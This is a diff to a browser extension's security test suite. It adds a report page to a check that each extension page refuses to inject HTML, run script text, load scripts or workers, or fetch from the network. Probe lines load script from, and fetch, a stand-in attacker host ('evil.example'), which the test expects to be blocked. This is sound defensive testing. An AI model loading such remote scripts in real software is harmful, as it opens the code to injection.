@@ -344,47 +344,50 @@ describe('a content script that a page has broken into', () => {
   })
 })
 
-describe.each(['popup.html', 'library.html', 'sidepanel.html', 'options.html', 'selection.html'])('our %s', (file) => {
-  it('makes neither HTML nor script out of text, and sends nothing', async () => {
-    const page = await browser.context.newPage()
-    const errors: string[] = []
-    page.on('pageerror', (error) => errors.push(String(error)))
-    await page.goto(`chrome-extension://${browser.extensionId}/${file}`)
-    await page.waitForSelector('#app > *')
-    const ways = await page.evaluate(async () => {
-      const refused = async (way: () => unknown) => {
-        try {
-          await way()
-          return false
-        } catch {
-          return true
+describe.each(['popup.html', 'library.html', 'sidepanel.html', 'options.html', 'selection.html', 'report.html'])(
+  'our %s',
+  (file) => {
+    it('makes neither HTML nor script out of text, and sends nothing', async () => {
+      const page = await browser.context.newPage()
+      const errors: string[] = []
+      page.on('pageerror', (error) => errors.push(String(error)))
+      await page.goto(`chrome-extension://${browser.extensionId}/${file}`)
+      await page.waitForSelector('#app > *')
+      const ways = await page.evaluate(async () => {
+        const refused = async (way: () => unknown) => {
+          try {
+            await way()
+            return false
+          } catch {
+            return true
+          }
         }
-      }
-      const div = document.createElement('div')
-      const script = document.createElement('script')
-      const policies = (window as unknown as { trustedTypes: { createPolicy(n: string, r: object): object } })
-        .trustedTypes
-      return {
-        innerHTML: await refused(() => (div.innerHTML = '<b>x</b>')),
-        outerHTML: await refused(() => (document.body.appendChild(div).outerHTML = '<b>x</b>')),
-        adjacent: await refused(() => div.insertAdjacentHTML('beforeend', '<b>x</b>')),
-        write: await refused(() => document.write('<b>x</b>')),
-        parser: await refused(() => new DOMParser().parseFromString('<b>x</b>', 'text/html')),
-        srcdoc: await refused(() => (document.createElement('iframe').srcdoc = '<b>x</b>')),
-        scriptText: await refused(() => (script.text = 'window.ran = true')),
-        scriptUrl: await refused(() => (script.src = 'https://evil.example/x.js')),
-        worker: await refused(() => new Worker('https://evil.example/x.js')),
-        timer: await refused(() => setTimeout('window.ran = true' as never)),
-        policy: await refused(() => policies.createPolicy('another', { createHTML: (text: string) => text })),
-        fetch: await refused(() => fetch('https://evil.example/')),
-        arxiv: await refused(() => fetch('https://arxiv.org/')),
-      }
+        const div = document.createElement('div')
+        const script = document.createElement('script')
+        const policies = (window as unknown as { trustedTypes: { createPolicy(n: string, r: object): object } })
+          .trustedTypes
+        return {
+          innerHTML: await refused(() => (div.innerHTML = '<b>x</b>')),
+          outerHTML: await refused(() => (document.body.appendChild(div).outerHTML = '<b>x</b>')),
+          adjacent: await refused(() => div.insertAdjacentHTML('beforeend', '<b>x</b>')),
+          write: await refused(() => document.write('<b>x</b>')),
+          parser: await refused(() => new DOMParser().parseFromString('<b>x</b>', 'text/html')),
+          srcdoc: await refused(() => (document.createElement('iframe').srcdoc = '<b>x</b>')),
+          scriptText: await refused(() => (script.text = 'window.ran = true')),
+          scriptUrl: await refused(() => (script.src = 'https://evil.example/x.js')),
+          worker: await refused(() => new Worker('https://evil.example/x.js')),
+          timer: await refused(() => setTimeout('window.ran = true' as never)),
+          policy: await refused(() => policies.createPolicy('another', { createHTML: (text: string) => text })),
+          fetch: await refused(() => fetch('https://evil.example/')),
+          arxiv: await refused(() => fetch('https://arxiv.org/')),
+        }
+      })
+      expect(Object.entries(ways).filter(([, refused]) => !refused)).toEqual([])
+      expect(errors).toEqual([])
+      await page.close()
     })
-    expect(Object.entries(ways).filter(([, refused]) => !refused)).toEqual([])
-    expect(errors).toEqual([])
-    await page.close()
-  })
-})
+  },
+)
 
 it('the search’s worker starts under that policy', async () => {
   expect(await say('paper:save', { paper: PAPER })).toMatchObject({ ok: true })
